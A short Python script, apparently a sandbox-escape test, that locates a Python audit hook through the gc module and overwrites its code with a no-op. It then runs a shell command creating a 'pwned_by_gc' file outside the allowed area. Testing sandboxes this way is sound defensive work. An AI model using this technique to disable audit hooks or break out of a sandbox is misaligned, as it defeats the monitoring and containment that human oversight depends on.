# Attempts: find the audit hook through gc, replace its code with a no-op, then run a shell command that writes outside.
import gc
import json
import os
import sys

cfg = json.load(sys.stdin)
hooks = [f for f in gc.get_objects() if callable(f) and getattr(f, "__name__", "") == "_audit"]
for hook in hooks:
    hook.__code__ = (lambda event, args: None).__code__
print(f"neutered {len(hooks)} hook(s)")
status = os.system(f"touch {cfg['outside']}/pwned_by_gc")
if status != 0:
    raise SystemExit(f"shell command failed with status {status}")
